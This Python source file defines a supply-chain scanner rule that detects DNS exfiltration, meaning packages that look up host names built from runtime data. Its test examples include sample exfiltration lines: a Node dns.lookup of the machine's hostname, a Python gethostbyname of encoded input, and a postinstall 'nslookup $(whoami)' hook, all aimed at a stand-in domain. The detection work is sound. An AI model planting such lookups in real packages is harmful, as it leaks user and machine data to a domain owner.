"""This update asks for host names that it puts together from data.

## What it detects
A DNS query, or a command that makes one, for a name whose first label is only known at run time and whose end is a
fixed domain; new to the line. Names of the local network and reverse look-ups are left alone.

## Why it matters
A name that is asked for travels to whoever owns the domain, through every firewall that lets names be resolved. What
stands in front of the domain arrives there as well.

## What it misses
Names of which nothing is known; queries by libraries of their own; data in a query's type or time.

## References
- MITRE ATT&CK T1048.003, Exfiltration Over Unencrypted Non-C2 Protocol; T1071.004, DNS
"""

import re
from collections.abc import Iterator
from functools import cache

from lazaretto.core.facts import Kind
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Tally, decoded, package_json, runs_by_itself
from lazaretto.core.update import ArtifactView, Placed, Update

CARD = Card(
    id="data-in-dns-name",
    title="Data in a host name",
    variants={
        "autorun": "Code that runs by itself asks for a name made of data and a fixed domain.",
        "call": "A function asks for a name made of data and a fixed domain; no earlier release did.",
        "first-contact": "There is no earlier release; code that runs by itself asks for a name made of data.",
    },
    group="flow",
    why="The owner of the domain receives every name that is asked for.",
    attack=("T1195.002", "T1048.003", "T1071.004"),
)

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_ASK = (
    "const dns = require('dns');\nconst os = require('os');\n"
    "dns.lookup(`${os.hostname()}.names.collect.invalid`, () => {});\n"
)

EXAMPLES = (
    Example(
        title="the entry file puts the name of the machine before a domain",
        before=_BEFORE,
        after={"package.json": package_json("1.0.1"), "index.js": _ASK + "module.exports = (a) => a;\n"},
        expect="autorun",
        at="index.js:3",
    ),
    Example(
        title="a Python function asks for a name made of what it is given",
        ecosystem="pypi",
        before={"pad/__init__.py": "def pad(a):\n    return a\n"},
        after={
            "pad/__init__.py": "import socket\ndef pad(a):\n"
            "    socket.gethostbyname(f'{a.hex()}.names.collect.invalid')\n    return a\n"
        },
        expect="call",
        at="pad/__init__.py:3",
    ),
    Example(
        title="first contact with an install script that does it by a command",
        after={
            "package.json": package_json("1.0.0", scripts={"postinstall": "nslookup $(whoami).names.collect.invalid"}),
            "index.js": "module.exports = (a) => a;\n",
        },
        expect="first-contact",
        at="package.json:6",
    ),
    Example(
        title="a fixed label before a name that is given, and a reverse look-up",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const dns = require('dns');\n"
            "exports.mail = (domain) => dns.resolveTxt('_dmarc.' + domain, () => {});\n"
            "exports.name = (ip) => dns.resolve(ip + '.in-addr.arpa', () => {});\n",
        },
    ),
    Example(
        title="a client of a block list that always asked so",
        before={"package.json": package_json("1.0.0"), "index.js": _ASK},
        after={"package.json": package_json("1.0.1"), "index.js": _ASK.replace("names", "list")},
    ),
)

_MESSAGES = {
    "autorun": "asks for a host name made of data without being called",
    "call": "asks for a host name made of data when it is called",
    "first-contact": "asks for a host name made of data without being called",
}
_KINDS = (Kind.DNS_QUERY, Kind.PROCESS_SPAWN)
_ASKING = ("nslookup", "dig", "host", "ping", "drill", "resolvectl", "getent", "resolve-dnsname")
_LOCAL = (".in-addr.arpa", ".ip6.arpa", ".local", ".internal", ".localhost", ".lan", ".consul", ".svc", ".test")
# A label that is not known (``*`` of JavaScript, ``{}`` of Python, ``$`` of a shell), then two fixed ones at least.
_MADE = r"""
    ^ [^./:\s]* (?: \* | \{[^}]*\} | \$\([^)]*\) | \$\{?\w+\}? | `[^`]*` ) [^/:\s*{$]* (?<!\.)
    \. (?:[a-z0-9_-]+\.)+ [a-z][a-z0-9-]+ \.? $
"""


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant."""
    tally = Tally(CARD)
    for pair in update.pairs:
        found = [placed for placed in pair.gained(*_KINDS) if _asks(placed)]
        if not found or (pair.before is not None and _had(pair.before)):
            continue
        for placed in found:
            alone = runs_by_itself(placed)
            if pair.before is None and not alone:
                continue
            variant = "first-contact" if pair.before is None else "autorun" if alone else "call"
            tally.add(variant, pair, placed)
            tally.explain(variant, decoded(pair, placed.path))
    yield from tally.findings(_MESSAGES)


def is_made_of_data(name: str) -> bool:
    """Whether a host name has a first part that is only known at run time, before a fixed public domain."""
    lowered = name.lower()
    return _pattern().match(lowered) is not None and not lowered.rstrip(".").endswith(_LOCAL)


def _asks(placed: Placed) -> bool:
    value = placed.fact.value or ""
    if placed.fact.kind is Kind.DNS_QUERY:
        return is_made_of_data(value)
    program, _, rest = value.partition(" ")
    named = program.replace("\\", "/").rpartition("/")[2].lower().removesuffix(".exe")
    return named in _ASKING and any(is_made_of_data(word.strip("\"'")) for word in rest.split())


def _had(view: ArtifactView) -> bool:
    return any(placed.fact.kind in _KINDS and _asks(placed) for placed in view.placed)


@cache
def _pattern() -> re.Pattern[str]:
    return re.compile(_MADE, re.VERBOSE)
